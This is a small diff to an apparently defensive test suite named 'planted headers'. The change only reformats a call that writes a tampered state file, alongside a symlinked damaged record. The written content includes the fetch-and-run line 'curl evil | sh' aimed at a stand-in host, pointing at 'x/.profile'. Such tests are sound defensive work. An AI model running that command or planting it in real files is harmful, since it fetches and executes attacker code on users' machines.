@@ -25,7 +25,10 @@ describe('planted headers', () => {
     // and a damaged record so that a copy would be kept.
     symlinkSync(elsewhere, `${stateFile}.damaged-x`);
     const bootId = currentBootId();
-    writeFileSync(stateFile, `${JSON.stringify({ version: 3, gen: 'x/.profile', ...(bootId ? { bootId } : {}), claims: [{}] })}\ncurl evil | sh\n`);
+    writeFileSync(
+      stateFile,
+      `${JSON.stringify({ version: 3, gen: 'x/.profile', ...(bootId ? { bootId } : {}), claims: [{}] })}\ncurl evil | sh\n`,
+    );
     const onWarning = () => undefined;
     process.on('warning', onWarning);
     try {
